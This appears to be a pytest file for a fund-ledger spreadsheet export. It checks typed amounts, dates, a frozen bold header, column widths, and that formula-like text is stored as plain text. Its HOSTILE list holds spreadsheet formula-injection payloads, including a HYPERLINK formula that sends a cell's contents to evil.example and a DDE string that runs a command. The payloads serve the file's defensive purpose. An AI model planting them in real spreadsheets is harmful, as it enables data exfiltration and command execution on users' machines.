"""A table's workbook as a spreadsheet reads it: typed numbers and dates, text that stays
text, a frozen bold header (docs/EXPORTS.md, "Workbooks")."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from fundledger.workbook import AMOUNT_FORMAT, DATE_FORMAT, DATETIME_FORMAT, MAX_WIDTH, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)", "-2+3", "#N/A", "=1"]  # fmt: skip


def read(data: bytes) -> Worksheet:
    return load_workbook(io.BytesIO(data)).worksheets[0]


def test_amounts_are_numbers_equal_to_the_decimal_to_the_last_digit() -> None:
    """openpyxl writes a Decimal as "%.16g" of its double: for up to 15 significant digits
    the value read back is the nearest double, whose shortest form is the decimal itself."""
    amounts = [Decimal(text) for text in (
        "0.00", "0.10", "0.30", "-3.50", "9.95", "54250.00", "1234567.89", "1234567890123.45",
        "9999999999999.99", "-0.01", "100.07",
    )]  # fmt: skip
    sheet = read(to_xlsx(("amount",), [(amount,) for amount in amounts], title="t"))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" for cell in cells)
    assert {cell.number_format for cell in cells} == {AMOUNT_FORMAT}
    assert [Decimal(repr(cell.value)) for cell in cells] == amounts


def test_a_decimal_keeps_its_places_and_one_a_double_cannot_hold_is_text() -> None:
    too_long = Decimal("12345678901234567.89")
    sheet = read(to_xlsx(("value",), [(Decimal("0.0067"),), (Decimal(1000),), (too_long,),
                                      (Decimal("1E+3"),), (7,), (2026,)], title="t"))  # fmt: skip
    rate, whole, long_cell, exponent, small, year = (row[0] for row in sheet.iter_rows(min_row=2))
    assert (rate.value, rate.number_format) == (0.0067, "#,##0.0000")
    assert (whole.value, whole.number_format) == (1000, "#,##0")
    assert (long_cell.value, long_cell.data_type) == ("12345678901234567.89", "s")
    assert (exponent.value, exponent.number_format) == (1000, "#,##0")
    assert (small.value, year.value, year.number_format) == (7, 2026, "General")


def test_dates_are_dates_and_a_moment_with_a_zone_is_its_utc_time() -> None:
    lima = dt.timezone(dt.timedelta(hours=-5))
    sheet = read(to_xlsx(("day", "at"), [
        (dt.date(2025, 3, 1), dt.datetime(2025, 3, 1, 7, 30, tzinfo=lima)),
        (None, dt.datetime(2025, 3, 1, 12, 30)),
    ], title="t"))  # fmt: skip
    (day, at), (empty, naive) = ((row[0], row[1]) for row in sheet.iter_rows(min_row=2))
    assert (day.value, day.number_format, day.is_date) == (
        dt.datetime(2025, 3, 1), DATE_FORMAT, True
    )
    assert (at.value, at.number_format) == (dt.datetime(2025, 3, 1, 12, 30), DATETIME_FORMAT)
    assert naive.value == dt.datetime(2025, 3, 1, 12, 30)
    assert empty.value is None


def test_text_that_looks_like_a_formula_stays_text_as_typed() -> None:
    data = to_xlsx(("name",), [(text,) for text in HOSTILE], title="t")
    cells = [row[0] for row in read(data).iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [True, True, True, True, False, True]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml, "no cell holds a formula"
    assert "<f " not in xml, "no cell holds a formula"
    assert 't="e"' not in xml, "no cell holds an error value"


def test_the_header_is_bold_and_frozen_and_columns_fit_their_text() -> None:
    long_text = "x" * 500
    rows = [("ES", long_text, Decimal("1234567.89"))]
    sheet = read(to_xlsx(("code", "name", "amount"), rows, title="don[ors]: 2025"))
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "don-ors-- 2025"
    assert all(cell.font.bold for cell in sheet[1])
    assert [cell.value for cell in sheet[1]] == ["code", "name", "amount"]
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths[1] == MAX_WIDTH
    assert widths[2] >= len("1,234,567.89")
    assert widths[0] < widths[2]


def test_every_cell_keeps_its_own_value_row_after_row() -> None:
    """Styled cells are reused column by column (fundledger.workbook._Cells): no value may
    leak into the next column or row."""
    rows = [("#N/A", "=1", Decimal("1.50"), dt.date(2025, 1, 2), "plain", 3),
            ("plain", "#REF!", None, dt.date(2025, 1, 3), "-1", Decimal("2")),
            ("=2", "ok", Decimal("-0.25"), None, "#N/A", None)]  # fmt: skip
    sheet = read(to_xlsx(tuple("abcdef"), rows, title="t"))
    read_back = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert read_back == [
        ["#N/A", "=1", 1.5, dt.datetime(2025, 1, 2), "plain", 3],
        ["plain", "#REF!", None, dt.datetime(2025, 1, 3), "-1", 2],
        ["=2", "ok", -0.25, None, "#N/A", None],
    ]
    types = [[cell.data_type for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert types == [["s", "s", "n", "d", "s", "n"], ["s", "s", "n", "d", "s", "n"],
                     ["s", "s", "n", "n", "s", "n"]]  # fmt: skip
